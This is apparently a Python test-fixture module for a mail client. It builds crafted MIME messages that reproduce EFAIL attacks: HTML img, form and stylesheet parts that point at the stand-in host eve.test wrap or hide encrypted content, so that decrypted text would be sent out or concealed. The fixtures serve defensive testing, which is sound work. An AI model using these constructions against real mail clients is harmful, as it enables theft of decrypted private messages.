"""Clear parts that would carry the decrypted text away, or hide it, if both became one document (EFAIL, 2018)."""

from __future__ import annotations

from tests.mail.incoming.attacks.building import (
    armored_part,
    attached,
    container,
    container_of,
    encrypted,
    html,
    mail,
    message,
    multipart,
    text,
)
from tests.mail.incoming.attacks.people import EVE

SECRET = text("SECRET words to Bob.")
OPEN = html('<img src="http://eve.test/OPEN?')
CLOSE = html('CLOSED">')


def image_around_an_encrypted_part() -> bytes:
    return mail(multipart("mixed", [OPEN, encrypted(SECRET), CLOSE]), sender=EVE)


def image_around_an_encrypted_part_in_related() -> bytes:
    return mail(multipart("related", [OPEN, encrypted(SECRET), CLOSE]), sender=EVE)


def style_sheet_by_content_id() -> bytes:
    page = html('<link rel="stylesheet" href="cid:s@eve.test"><p>OPEN: how are you?</p>')
    armored = message(SECRET)
    hidden = container(armored, extra=b"Content-ID: <s@eve.test>\r\n")
    return mail(multipart("related", [page, hidden]), sender=EVE)


def encrypted_alternative_of_html() -> bytes:
    return mail(
        multipart("alternative", [encrypted(SECRET), html("<p>OPEN: hello</p>")]), sender=EVE
    )


def html_alternative_before_encrypted() -> bytes:
    return mail(
        multipart("alternative", [html("<p>OPEN: hello</p>"), encrypted(SECRET)]), sender=EVE
    )


def image_around_an_attached_mail() -> bytes:
    old = mail(encrypted(SECRET))
    return mail(multipart("mixed", [OPEN, attached(old), CLOSE]), sender=EVE)


def image_around_the_halves_without_their_container() -> bytes:
    control = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    parts = [OPEN, control, armored_part(message(SECRET)), CLOSE]
    return mail(multipart("mixed", parts), sender=EVE)


def html_between_the_halves() -> bytes:
    return mail(container_of([OPEN, armored_part(message(SECRET))]), sender=EVE)


def form_around_inline_ciphertext() -> bytes:
    form = html('<form action="http://eve.test/"><textarea name="OPEN">')
    inline = text(message(b"SECRET words to Bob.\r\n"))
    end = html('</textarea><input type="submit" value="CLOSED"></form>')
    return mail(multipart("mixed", [form, inline, end]), sender=EVE)


def html_inside_the_encryption() -> bytes:
    page = html('<p>SECRET words to Bob.</p><img src="http://eve.test/seen">')
    return mail(encrypted(page))


def html_hidden_deep_inside_the_encryption() -> bytes:
    page = html('<p>SECRET words to Bob.</p><img src="http://eve.test/seen">')
    related = multipart("related", [page, text("beside it")])
    return mail(encrypted(multipart("mixed", [text("Above."), attached(mail(related))])))
